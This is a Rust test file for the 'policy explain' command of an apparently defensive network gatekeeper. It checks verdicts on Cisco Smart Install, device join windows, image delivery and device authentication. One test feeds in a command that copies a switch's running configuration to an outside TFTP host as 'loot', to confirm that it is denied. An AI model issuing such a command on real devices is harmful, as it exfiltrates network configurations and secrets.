//! Tests of `policy explain`: argument parsing and rendering against a policy built in code (the
//! same policy as `tests/cli_policy_explain.rs`, which needs the loader).

use super::*;

use clap::Parser;

use crate::cli::policy::PolicyCommand;
use crate::cli::{Cli, Command};
use crate::policy::access::{AccessRule, Action, CopyPattern, KindSet, Selector};
use crate::policy::join::JoinMode;
use crate::policy::net::{AddrSet, HostSet};
use crate::policy::schedule::{Recurrence, Window};

/// The policy of `tests/cli_policy_explain.rs`, built in code.
fn policy() -> Policy {
    let lo = AddrSet(vec!["127.0.0.1".parse().unwrap()]);
    let mut p = Policy {
        name: "t".into(),
        ..Policy::default()
    };
    p.smart_install.directors = lo.clone();
    p.smart_install.client_networks = AddrSet(vec!["127.0.0.0/8".parse().unwrap()]);
    p.smart_install.tftp_servers = HostSet {
        nets: lo.clone(),
        names: Vec::new(),
    };
    p.smart_install.copy_patterns =
        vec![CopyPattern::new("copy system:running-config tftp://{tftp}/*").unwrap()];
    let kinds = [
        MessageKind::Probe,
        MessageKind::ConfigPush,
        MessageKind::CopyCommands,
    ];
    p.smart_install.rules = vec![AccessRule {
        name: "d".into(),
        action: Action::Allow,
        from: vec![Selector::Directors],
        to: vec![Selector::ClientNetworks],
        kinds: kinds.iter().fold(KindSet::default(), |s, k| s.with(*k)),
        mode: Mode::Enforce,
    }];
    p.join_window.mode = JoinMode::Manual;
    p.join_window.windows = vec![Window {
        name: "w".into(),
        start: parse_rfc3339("2026-01-03T02:00:00Z").unwrap().naive_utc(),
        interval_minutes: Some(240),
        end: None,
        recurrence: Recurrence::Weekly,
    }];
    p.image_delivery.allowed_hosts = HostSet {
        nets: lo,
        names: Vec::new(),
    };
    p
}

/// Parses `ztpgate policy explain --config p.toml ARGS…` into its event and `--json` flag.
fn parse(args: &[&str]) -> (ExplainEvent, bool) {
    let argv = ["ztpgate", "policy", "explain", "--config", "p.toml"];
    let cli = Cli::try_parse_from(argv.iter().chain(args)).unwrap();
    match cli.command {
        Command::Policy(PolicyCommand::Explain(a)) => (a.event, a.json),
        other => panic!("{other:?}"),
    }
}

fn run_text(args: &[&str]) -> String {
    let (event, json) = parse(args);
    let now = parse_rfc3339("2026-01-12T12:00:00Z").unwrap();
    explain(&policy(), &event, json, now).unwrap()
}

#[test]
fn explains_default_deny_for_non_director() {
    let out = run_text(&[
        "smart-install",
        "--from",
        "10.0.0.9",
        "--to",
        "127.0.0.2",
        "--kind",
        "config-push",
    ]);
    assert_eq!(
        out,
        "verdict: deny\nrule:    smart_install/default-deny\nmode:    enforce\n\
         reason:  10.0.0.9 is not a director; rule default-deny\n"
    );
}

#[test]
fn explains_content_check_on_allowed_director() {
    let out = run_text(&[
        "smart-install",
        "--from",
        "127.0.0.1",
        "--to",
        "127.0.0.2",
        "--kind",
        "copy-commands",
        "--command",
        "copy system:running-config tftp://203.0.113.5/loot",
    ]);
    assert!(
        out.contains("rule:    smart_install/url-host-allowlist"),
        "{out}"
    );
    assert!(
        out.contains("tftp host 203.0.113.5 not in tftp_servers"),
        "{out}"
    );
}

#[test]
fn marks_audited_denials() {
    let mut p = policy();
    p.smart_install.default_mode = Mode::Audit;
    let (event, _) = parse(&[
        "smart-install",
        "--from",
        "10.0.0.9",
        "--to",
        "127.0.0.2",
        "--kind",
        "probe",
    ]);
    let out = explain(
        &p,
        &event,
        false,
        parse_rfc3339("2026-01-12T12:00:00Z").unwrap(),
    )
    .unwrap();
    assert!(
        out.contains("mode:    audit (audit: not enforced)"),
        "{out}"
    );
}

#[test]
fn explains_join_in_manual_mode() {
    let open = run_text(&[
        "join",
        "--mac",
        "00:1b:54:aa:bb:cc",
        "--at",
        "2026-01-10T03:00:00Z",
    ]);
    assert!(open.contains("verdict:    hold\n"), "{open}");
    assert!(
        open.contains("rule:       join_window/window-open-manual"),
        "{open}"
    );
    assert!(
        open.contains("zero-touch: with operator approval"),
        "{open}"
    );
    assert!(open.contains("hold list:  add"), "{open}");
    let closed = run_text(&["join", "--mac", "00:1b:54:aa:bb:cc"]);
    assert!(closed.contains("verdict:    deny"), "{closed}");
    assert!(
        closed.contains("at:         2026-01-12T12:00:00Z"),
        "{closed}"
    );
    assert!(
        closed.contains("next: w at 2026-01-17 02:00:00 UTC"),
        "{closed}"
    );
    let known = run_text(&["join", "--pnp", "--known", "--pid", "C9300-24T"]);
    assert!(known.contains("join_window/known-device"), "{known}");
}

#[test]
fn explains_delivery() {
    let out = run_text(&["deliver", "--url", "http://127.0.0.1/x.bin"]);
    assert!(out.contains("rule:    image_delivery/https-only"), "{out}");
    let sum = format!("sha256:{}", "ab".repeat(32));
    let ok = run_text(&[
        "deliver",
        "--url",
        "https://127.0.0.1/x.bin",
        "--checksum",
        &sum,
    ]);
    assert!(ok.starts_with("verdict: allow\n"), "{ok}");
}

#[test]
fn explains_auth() {
    let out = run_text(&["auth", "--no-certificate"]);
    assert!(out.contains("device_auth/certificate-required"), "{out}");
    let out = run_text(&[
        "auth",
        "--pid",
        "C9300-24T",
        "--sn",
        "FOC1",
        "--anchor-set",
        "x",
    ]);
    assert!(out.contains("device_auth/trust-anchors"), "{out}");
    let out = run_text(&["auth", "--chain-failure", "revoked"]);
    assert!(out.contains("certificate revoked"), "{out}");
    let mut p = policy();
    p.device_auth.trust_anchors = vec!["cisco-sudi".into()];
    let (event, _) = parse(&[
        "auth",
        "--pid",
        "C9300-24T",
        "--sn",
        "FOC1",
        "--claimed-udi",
        "PID:C9300-24T,VID:V01,SN:FOC1",
    ]);
    let out = explain(
        &p,
        &event,
        false,
        parse_rfc3339("2026-01-12T12:00:00Z").unwrap(),
    )
    .unwrap();
    assert!(
        out.starts_with("verdict: authenticated PID:C9300-24T SN:FOC1\n"),
        "{out}"
    );
}

#[test]
fn rejects_bad_root_hash() {
    let (event, _) = parse(&[
        "auth",
        "--pid",
        "P",
        "--sn",
        "S",
        "--sha1-legacy",
        "--root-sha256",
        "abc",
    ]);
    let err = explain(
        &policy(),
        &event,
        false,
        parse_rfc3339("2026-01-12T12:00:00Z").unwrap(),
    )
    .unwrap_err();
    assert_eq!(err.code, 2);
}

#[test]
fn prints_json_decision() {
    let out = run_text(&["--json", "deliver", "--url", "https://127.0.0.1/x.bin"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["verdict"], "deny");
    assert_eq!(v["rule"]["name"], "checksum-required");
    let out = run_text(&["join", "--at", "2026-01-10T03:00:00Z", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["verdict"]["state"], "hold");
}

#[test]
fn rejects_bad_arguments() {
    let argv = ["ztpgate", "policy", "explain", "--config", "p.toml"];
    for bad in [
        &[
            "smart-install",
            "--from",
            "x",
            "--to",
            "127.0.0.1",
            "--kind",
            "probe",
        ][..],
        &[
            "smart-install",
            "--from",
            "127.0.0.1",
            "--to",
            "127.0.0.1",
            "--kind",
            "hello",
        ],
        &["join", "--mac", "zz"],
        &["join", "--at", "yesterday"],
        &["auth"],
        &["auth", "--no-certificate", "--pid", "P"],
    ] {
        assert!(
            Cli::try_parse_from(argv.iter().chain(bad)).is_err(),
            "{bad:?}"
        );
    }
}
